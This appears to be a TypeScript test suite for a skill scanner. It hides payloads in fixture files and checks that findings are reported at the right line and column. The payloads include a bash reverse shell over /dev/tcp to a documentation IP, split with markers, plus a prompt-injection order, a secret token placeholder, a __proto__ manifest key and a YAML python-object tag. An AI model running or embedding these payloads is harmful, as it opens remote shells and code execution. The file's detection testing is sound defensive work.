import type { Category, Finding } from "@flynn/sdk/skill-scanner";
import { skillFixture } from "@flynn/fixtures/skills";
import type { BuiltSkill, SkillFixture } from "@flynn/fixtures/skills";

import { defineCase } from "../../judge/case.ts";
import type { CaseDefinition } from "../../judge/case.ts";
import type { CaseContext } from "../../judge/case-context.ts";
import type { OpenInstance } from "../../judge/open-instance.ts";
import { withFiles } from "./derived-skill.ts";
import type { Body } from "./derived-skill.ts";
import { describe, findingsOf, scan } from "./scanning.ts";
import type { Scanned } from "./scanning.ts";
import { buildInCase } from "./skill-in-case.ts";
import { ORDER } from "./plain-payloads.ts";

const FIXTURE = skillFixture("context-hidden-places");
/** Each is one character to a reader, and two code units. */
const EMOJI = "\u{1F600}".repeat(200);
const TABS = "\t".repeat(200);
const LEAD = "Names are written in kebab case.\n";

const SHELL = "ba{{-}}sh -i >& /d{{-}}ev/t{{-}}cp/203.0.113.152/4444 0>&1";
const TOKEN = "{{secret:github-token}}";
const whole = (text: string): string => text.replaceAll("{{-}}", "");
const base64 = (text: string): string =>
  (
    Buffer.from(whole(text))
      .toString("base64")
      .match(/.{1,60}/gu) ?? []
  ).join("\n");

/** A payload at one place of one file; with the row that asks for the finding. */
interface Spot {
  readonly row: string;
  readonly path: string;
  readonly categories: readonly Category[];
  /** What stands before the payload, without the lines that each file begins with. */
  readonly before: string;
  readonly payload: string;
  /** How the text is stored; as it is where this says nothing. */
  readonly form?: (text: string) => Body;
  /** In place of the lines that each file begins with. */
  readonly opening?: string;
}

const order = (path: string, rest: Partial<Spot>): Spot => ({
  row: "SCAN-038",
  path,
  categories: ["injection"],
  before: "",
  payload: ORDER,
  ...rest,
});
const token = (path: string, rest: Partial<Spot>): Spot => ({
  row: "SCAN-034",
  path,
  categories: ["secret"],
  before: "",
  payload: TOKEN,
  ...rest,
});

const SPOTS: Readonly<Record<string, Spot>> = {
  "an order behind 200 emoji": order("notes/a.txt", { before: `${EMOJI} ` }),
  "a credential behind 200 emoji": token("notes/c.txt", { before: `${EMOJI} ` }),
  "a credential behind 200 tabs": token("notes/d.txt", { before: TABS }),
  "a credential below an order": token("notes/e.txt", { before: `${ORDER}\n\n${LEAD}` }),
  "an order in base64": order("notes/f.txt", {
    row: "SCAN-039",
    categories: ["injection", "hidden-text", "encoding", "code"],
    payload: base64(`# Names\n\n${LEAD}${ORDER}\n${LEAD}`),
  }),
  "an order in SKILL.md, below its front matter": order("SKILL.md", {
    opening: "---\nname: {{skill}}\ndescription: Names files in kebab case.\nlicence: MIT\n---\n# Names\n\nReference {{nonce}}\n\n",
  }),
  "a reverse shell in a fence": {
    row: "SCAN-041",
    path: "notes/g.md",
    categories: ["code"],
    before: "\n```sh\nset -e\n",
    payload: SHELL,
    form: (text) => `${text}\`\`\`\n`,
  },
  "an order in UTF-16": order("notes/h.txt", {
    row: "SCAN-046",
    before: `${"kebab case ".repeat(30)}. `,
    form: (text) => ({ join: [{ bytes: "ff fe" }, { encode: text, as: "utf16" }] }),
  }),
  "an order after a byte order mark": order("notes/i.txt", {
    row: "SCAN-046",
    form: (text) => ({ join: [{ bytes: "ef bb bf" }, text] }),
  }),
  "a credential below 70,000 line feeds": token("notes/j.txt", { row: "SCAN-048", before: "\n".repeat(70_000) }),
  "an order in lines that end in CR": order("notes/k.txt", { row: "SCAN-046", form: (text) => text.replaceAll("\n", "\r") }),
  "a credential below characters that end no line": token("notes/l.txt", { before: "one\u2028two\u2029three\u0085four\vfive\fsix\n" }),
};
const SPOT_NAMES = Object.keys(SPOTS);

/** A key that no manifest may have, behind much on its own line, and a tag in front matter. */
const MANIFEST_KEY = '"__proto__"';
const MANIFEST_LINE = `  "hint": "${EMOJI}",${"\t".repeat(60)}${MANIFEST_KEY}: {},`;
const MANIFEST = ["{", '  "name": "{{skill}}",', '  "note": "one\u2028two",', MANIFEST_LINE, '  "permissions": []', "}"];
/** The tag is so near the start that a place counted from the fence is on another line. */
const TAG_LINE = "l: !!py{{-}}thon/object:names.Licence {}";
const SKILL_FILE = ["---", "name: {{skill}}", "description: Names files.", TAG_LINE, "---", "# Names", "", "Reference {{nonce}}"];
const LINE_ENDS = { "line feeds": "\n", "carriage returns and line feeds": "\r\n" } as const;

export const positionInFormCases: readonly CaseDefinition[] = [
  defineCase({
    id: "SCAN-058/in-every-form",
    requirement: "SCAN-058",
    title: `looks where findings are said to stand: ${SPOT_NAMES.join(", ")}`,
    isolation: "shared",
    expects: SPOT_NAMES,
    run: async (context) => {
      const instance = await context.open();
      const leads = new Map(SPOT_NAMES.map((name) => [name, 12 + context.random.integer(12)]));
      await using skill = await buildInCase(context, holding(SPOT_NAMES, leads));
      const scanned = await scan(instance, skill.request);
      for (const name of SPOT_NAMES) {
        // A scanner may tell the same thing only so often.
        if (aboutSpot(scanned, name).length > 0) checkSpot(context, { name, lead: leads.get(name) ?? 0 }, skill, scanned);
        else await checkAlone(context, instance, name, leads);
      }
    },
  }),
  defineCase({
    id: "SCAN-058/in-metadata",
    requirement: "SCAN-058",
    title: "looks where findings about one key of a manifest and one tag in front matter are said to stand",
    isolation: "shared",
    expects: Object.keys(LINE_ENDS).flatMap((ends) => [`the manifest, ${ends}`, `the front matter, ${ends}`]),
    run: async (context) => {
      const instance = await context.open();
      for (const [ends, end] of Object.entries(LINE_ENDS)) await checkMetadata(context, instance, ends, end);
    },
  }),
];

function spotOf(name: string): Spot {
  const spot = SPOTS[name];
  if (!spot) throw new Error(`There is no spot ${name}`);
  return spot;
}

function openingOf({ opening }: Spot, lead: number): string {
  return opening ?? `# {{nonce}}\n${LEAD.repeat(lead)}`;
}

function holding(names: readonly string[], leads: ReadonlyMap<string, number>): SkillFixture {
  const files = names.map((name) => {
    const spot = spotOf(name);
    const text = `${openingOf(spot, leads.get(name) ?? 0)}${spot.before}${spot.payload}\n`;
    return [spot.path, spot.form?.(text) ?? text] as const;
  });
  return withFiles(FIXTURE, Object.fromEntries(files));
}

function aboutSpot(scanned: Scanned, name: string): readonly Finding[] {
  const { path, categories } = spotOf(name);
  return findingsOf(scanned).filter(
    (finding) => finding.path === path && finding.action !== "note" && categories.includes(finding.category),
  );
}

async function checkAlone(context: CaseContext, instance: OpenInstance, name: string, leads: ReadonlyMap<string, number>): Promise<void> {
  await using skill = await buildInCase(context, holding([name], leads));
  checkSpot(context, { name, lead: leads.get(name) ?? 0 }, skill, await scan(instance, skill.request));
}

/** Lines and columns that will do. Column 1 is that of the start of the line. */
interface Range {
  readonly lines: readonly [number, number];
  readonly columns: readonly [number, number];
}

function checkSpot(
  context: CaseContext,
  { name, lead }: { readonly name: string; readonly lead: number },
  skill: BuiltSkill,
  scanned: Scanned,
): void {
  const spot = spotOf(name);
  const { row, path, categories } = spot;
  const about = aboutSpot(scanned, name);
  const before = whole(openingOf(spot, lead) + spot.before).split("\n");
  const payload = filled(spot.payload, skill).split("\n");
  const onLine = before.at(-1) ?? "";
  const range: Range = {
    lines: [before.length, before.length + payload.length - 1],
    // A pattern may begin with the blank before.
    columns: [onLine.length + (onLine.endsWith(" ") ? 0 : 1), onLine.length + Math.max(...payload.map((line) => line.length)) + 1],
  };
  const did = `scanned a skill with ${name}, on line ${range.lines[0]} of ${path}`;
  context.control(row, about.length > 0, {
    did,
    expected: `a finding of category ${categories.join(" or ")} at ${path}`,
    got: describe(scanned),
  });
  checkRange(context, name, { did, about, range });
}

async function checkMetadata(context: CaseContext, instance: OpenInstance, ends: string, end: string): Promise<void> {
  const manifest = `${MANIFEST.join(end)}${end}`;
  const skillFile = `${SKILL_FILE.join(end)}${end}`;
  await using skill = await buildInCase(context, withFiles(FIXTURE, { "SKILL.md": skillFile, "manifest.json": manifest }));
  const scanned = await scan(instance, skill.request);
  const keyAt = MANIFEST_LINE.indexOf(MANIFEST_KEY) + 1;
  const places = [
    {
      what: "the manifest",
      row: "SCAN-022",
      category: "manifest",
      lines: MANIFEST,
      line: MANIFEST_LINE,
      columns: [keyAt, MANIFEST_LINE.length + 1],
    },
    {
      what: "the front matter",
      row: "SCAN-024",
      category: "frontmatter",
      lines: SKILL_FILE,
      line: TAG_LINE,
      columns: [1, whole(TAG_LINE).length + 1],
    },
  ] as const;
  for (const { what, row, category, lines, line, columns } of places) {
    const about = findingsOf(scanned).filter((finding) => finding.category === category);
    const at = lines.indexOf(line) + 1;
    const did = `scanned a skill in which ${what} has what is refused on line ${at}, in a file with ${ends}`;
    context.control(row, about.length > 0, { did, expected: `a finding of category ${category}`, got: describe(scanned) });
    checkRange(context, `${what}, ${ends}`, { did, about, range: { lines: [at, at], columns } });
  }
}

function checkRange(
  context: CaseContext,
  name: string,
  { did, about, range }: { readonly did: string; readonly about: readonly Finding[]; readonly range: Range },
): void {
  const [from, to] = range.columns;
  const isThere = ({ line, column }: Finding): boolean =>
    (line === null || (line >= range.lines[0] && line <= range.lines[1])) &&
    (column === null || column === 1 || (column >= from && column <= to));
  const wrong = about.filter((finding) => !isThere(finding));
  context.check(name, wrong.length === 0, {
    did,
    expected: `line ${[...new Set(range.lines)].join(" to ")}, or null, and a column from ${from} to ${to} in UTF-16 code units, or 1 for the start of the line, or null`,
    got: wrong.map(({ ruleId, line, column }) => `${ruleId} at line ${String(line)}, column ${String(column)}`).join("; "),
    next: "Count LF, CRLF and a lone CR as one end of a line each, from the start of the file as it lies there, and code units from the start of the line.",
  });
}

/** The payload as it is in the file. */
function filled(payload: string, { secrets }: BuiltSkill): string {
  let text = whole(payload);
  for (const [name, value] of secrets) text = text.replaceAll(`{{${name}}}`, value);
  return text;
}
